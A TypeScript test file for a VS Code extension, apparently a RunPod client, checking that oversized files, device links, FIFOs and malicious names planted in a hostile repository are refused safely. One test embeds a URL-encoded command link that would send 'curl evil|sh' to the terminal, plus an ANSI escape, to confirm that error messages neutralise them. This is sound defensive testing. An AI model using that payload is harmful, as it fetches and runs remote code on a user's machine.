/**
 * Workspace files the extension reads on the user's behalf (Launch Pod's template and env files,
 * Deploy Endpoint's, Compare Environments', Find Usages' own search), in a hostile repository: a 5 GB sparse
 * `x.runpod.json`, a link to /dev/zero, a FIFO. Each is refused before a byte is read, with a
 * message that says why and quotes nothing of it; an open editor's text is still what counts.
 */
import { beforeEach, describe, expect, it, vi } from 'vitest';

vi.mock('../../client/src/cli/fileRead', async (real) => (await import('./vscodeFake')).fakeFileRead(await real()));
vi.mock('vscode', async () => await import('./vscodeFake'));
// The walk reads a file: folder's .gitignore from disk (readIndexedFileAsync); here the folder is the fake's.
vi.mock('../../server/src/index/readFile', async (real) => ({ ...(await real<object>()), ...(await import('./vscodeFake')).fakeIndexedReads }));

import { loadEnvFile, loadTemplateFile } from '../../client/src/launch/ui/launchWizard';
import { loadDeployFile } from '../../client/src/serverless/ui/deployWizard';
import { findEnvironments, loadSources } from '../../client/src/environments/workspaceFiles';
import { fake, FakeDocument, FileType, Uri, workspace } from './vscodeFake';
import { ANALYSIS_LIMIT } from '../../server/src/template/analyze';
import { bytesInWords } from '../../server/src/template/counts';

/** The fake's Uri where the code under test takes VS Code's. */
const fileUri = (path: string) => Uri.from({ scheme: 'file', path }) as never;
const api = { getTemplate: async () => { throw new Error('not asked'); } };
/** A loader's refusal message ('' for a file it took). */
const messageOf = (loaded: object | undefined): string => (loaded && 'message' in loaded ? String(loaded.message) : '');
const TEMPLATE = '{ "name": "t", "imageName": "img:1", "env": { "A": "{{ RUNPOD_SECRET_hf-token }}" } }\n';
const SPECIAL = {
  huge: { type: FileType.File, size: 5 * 1024 ** 3 },
  device: { type: FileType.Unknown | FileType.SymbolicLink, size: 0 },
  fifo: { type: FileType.Unknown, size: 0 },
};

beforeEach(() => fake.reset());

describe('files a hostile repository plants where the extension reads', () => {
  it('Launch Pod: a template file too large, a link to a device or a FIFO is refused unread, saying why', async () => {
    for (const [what, stat] of Object.entries(SPECIAL)) {
      const path = `/w/${what}.runpod.json`;
      fake.files.set(path, TEMPLATE);
      fake.stats.set(path, stat);
      const loaded = await loadTemplateFile(api, fileUri(path));
      expect(messageOf(loaded), what).toMatch(what === 'huge' ? /larger than 2 MiB/ : /not a regular file/);
    }
    expect(fake.reads).toEqual([]);
  });

  it('Launch Pod: an env file likewise; an ordinary one is read', async () => {
    fake.files.set('/w/fifo.runpod.env', 'A=1\n');
    fake.stats.set('/w/fifo.runpod.env', SPECIAL.fifo);
    await expect(loadEnvFile(fileUri('/w/fifo.runpod.env'))).rejects.toThrow(/fifo\.runpod\.env is not a regular file/);
    fake.files.set('/w/ok.runpod.env', 'A=1\n');
    expect((await loadEnvFile(fileUri('/w/ok.runpod.env'))).env).toEqual({ A: '1' });
    expect(fake.reads).toEqual(['/w/ok.runpod.env']);
  });

  it('Deploy Endpoint: a link to a device is refused unread', async () => {
    fake.files.set('/w/dev.runpod.json', TEMPLATE);
    fake.stats.set('/w/dev.runpod.json', SPECIAL.device);
    expect(messageOf(await loadDeployFile(api, fileUri('/w/dev.runpod.json'), []))).toMatch(/not a regular file/);
    expect(fake.reads).toEqual([]);
  });

  it('Push Template: a link to a device is refused unread, saying why', async () => {
    const { pushTemplate } = await import('../../client/src/commands/pushTemplate');
    fake.files.set('/w/dev.runpod.json', TEMPLATE);
    fake.stats.set('/w/dev.runpod.json', SPECIAL.device);
    await pushTemplate({} as never, fileUri('/w/dev.runpod.json'));
    expect(fake.messages.at(-1)).toMatchObject({ level: 'error', text: expect.stringMatching(/^Not pushing: \/w\/dev\.runpod\.json is not a regular file/) });
    expect(fake.reads).toEqual([]);
  });

  it('Compare Environments: a file too large is compared unread; a link (to a device) or a FIFO is not even listed, as the index follows no link', async () => {
    fake.files.set('/w/train.dev.runpod.env', 'A={{ RUNPOD_SECRET_hf-token }}\n');
    fake.files.set('/w/train.prod.runpod.env', 'A={{ RUNPOD_SECRET_hf-token }}\n');
    fake.stats.set('/w/train.prod.runpod.env', SPECIAL.huge);
    fake.files.set('/w/train.staging.runpod.env', 'A=1\n');
    fake.stats.set('/w/train.staging.runpod.env', SPECIAL.device);
    fake.files.set('/w/train.qa.runpod.env', 'A=1\n');
    fake.stats.set('/w/train.qa.runpod.env', SPECIAL.fifo);
    const environments = await findEnvironments();
    expect(environments.groups.map((g) => g.environments.map((e) => e.name))).toEqual([['dev', 'prod']]);
    const { reads } = await loadSources(environments, environments.groups);
    // Compared as far as the analysis reads (ANALYSIS_LIMIT), as runpod-check envs compare reads it.
    expect(reads.filter((r) => !r.read.ok)).toEqual([{ path: 'train.prod.runpod.env', read: { ok: false, problem: `larger than ${bytesInWords(ANALYSIS_LIMIT)}`, tooLarge: true } }]);
    expect(fake.reads).toEqual(['/w/train.dev.runpod.env']);
  });
});

describe('a file name that is a Markdown link', () => {
  // VS Code renders [text](target) in a notification as a link, command: targets included.
  const LINK = '[Fix it](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)';
  const forms = (text: string) => /\]\(command:/.test(text);

  it('forms no link in the error Launch Pod and Deploy Endpoint show for its file', async () => {
    const path = `/w/${LINK}.runpod.json`;
    fake.files.set(path, '{ "name": ');
    const launch = await loadTemplateFile(api, fileUri(path));
    expect(launch).toMatchObject({ kind: 'refused', message: expect.stringContaining('Not valid JSON') });
    expect(forms(messageOf(launch))).toBe(false);
    const deploy = await loadDeployFile(api, fileUri(path), []);
    expect(deploy).toMatchObject({ kind: 'refused' });
    expect(forms(messageOf(deploy))).toBe(false);
    fake.stats.set(path, SPECIAL.fifo);
    const fifo = await loadTemplateFile(api, fileUri(path));
    expect(fifo).toMatchObject({ kind: 'refused', message: expect.stringContaining('not a regular file') });
    expect(forms(messageOf(fifo))).toBe(false);
  });

  it('a template a planted file names by id, whose name RunPod returns as a link and an escape, forms neither in the refusal', async () => {
    // Someone else's public template: its name is whatever its owner wrote.
    const hostile = { getTemplate: async () => ({ id: 'tpl1', name: `${LINK}\u001b[31m`, imageName: 'img:1', serverless: false, env: {} }) as never };
    fake.files.set('/w/api.runpod.json', '{ "name": "api", "templateId": "tpl1", "gpu": { "id": "NVIDIA GeForce RTX 4090" } }\n');
    const deploy = await loadDeployFile(hostile, fileUri('/w/api.runpod.json'), []);
    expect(deploy).toMatchObject({ kind: 'refused', message: expect.stringContaining('is a Pod template') });
    expect(forms(messageOf(deploy))).toBe(false);
    expect(messageOf(deploy)).not.toContain('\u001b');
    expect(messageOf(deploy)).toContain('\\u001b[31m');
  });
});

describe('runpod.environments of a hostile workspace', () => {
  it('finding the environments lists each folder once, whatever the number of declared globs', async () => {
    const { workspace } = await import('./vscodeFake');
    fake.settings = {
      environments: Object.fromEntries(Array.from({ length: 64 }, (_, e) => [`env${e}`, Array.from({ length: 16 }, (_, g) => `deploy/e${e}/g${g}/*.env`)])),
    };
    // Of the first four environments: the environments keep 64 globs in all (declarations.ts).
    fake.files.set('/w/deploy/e2/g5/api.env', 'A=1\n');
    fake.files.set('/w/deploy/e3/g5/api.env', 'A=2\n');
    const listings = vi.spyOn(workspace.fs, 'readDirectory');
    const found = await findEnvironments();
    // /w, deploy, e2, e3, e2/g5, e3/g5.
    expect(listings.mock.calls.map(([uri]) => uri.path).sort()).toEqual(['/w', '/w/deploy', '/w/deploy/e2', '/w/deploy/e2/g5', '/w/deploy/e3', '/w/deploy/e3/g5']);
    expect([...found.uris.keys()].sort()).toEqual(['deploy/e2/g5/api.env', 'deploy/e3/g5/api.env']);
    listings.mockRestore();
  });

  it('a folder a .gitignore ignores, node_modules and .git are not walked: their env files are not offered', async () => {
    fake.files.set('/w/.gitignore', '# build output\nout/\n');
    for (const dir of ['out', 'node_modules/pkg', '.git', 'kept']) {
      fake.files.set(`/w/${dir}/train.dev.runpod.env`, 'A=1\n');
      fake.files.set(`/w/${dir}/train.prod.runpod.env`, 'A=1\n');
    }
    const { workspace } = await import('./vscodeFake');
    const listings = vi.spyOn(workspace.fs, 'readDirectory');
    const found = await findEnvironments();
    expect(found.groups.map((g) => g.label)).toEqual(['kept/train']);
    expect(listings.mock.calls.map(([uri]) => uri.path).sort()).toEqual(['/w', '/w/kept']);
    listings.mockRestore();
  });

  it("an environment's files are ordered by the kind each is read with: a declared file open as JSON is its template, first, as Compare reads it", async () => {
    fake.settings = { environments: { dev: ['deploy/dev/*'], prod: ['deploy/prod/*'] } };
    for (const env of ['dev', 'prod']) {
      fake.files.set(`/w/deploy/${env}/train.env`, 'A=1\n');
      // No .json in its name: by its path alone it would be env lines, and prod's ordered after train.env.
      const path = `/w/deploy/${env}/train.${env}`;
      fake.files.set(path, TEMPLATE);
      workspace.textDocuments.push(Object.assign(new FakeDocument(fileUri(path), TEMPLATE), { languageId: 'json' }) as never);
    }
    const found = await findEnvironments();
    expect(found.groups.map((g) => g.environments.map((e) => e.files))).toEqual([
      [
        ['deploy/dev/train.dev', 'deploy/dev/train.env'],
        ['deploy/prod/train.prod', 'deploy/prod/train.env'],
      ],
    ]);
  });
});
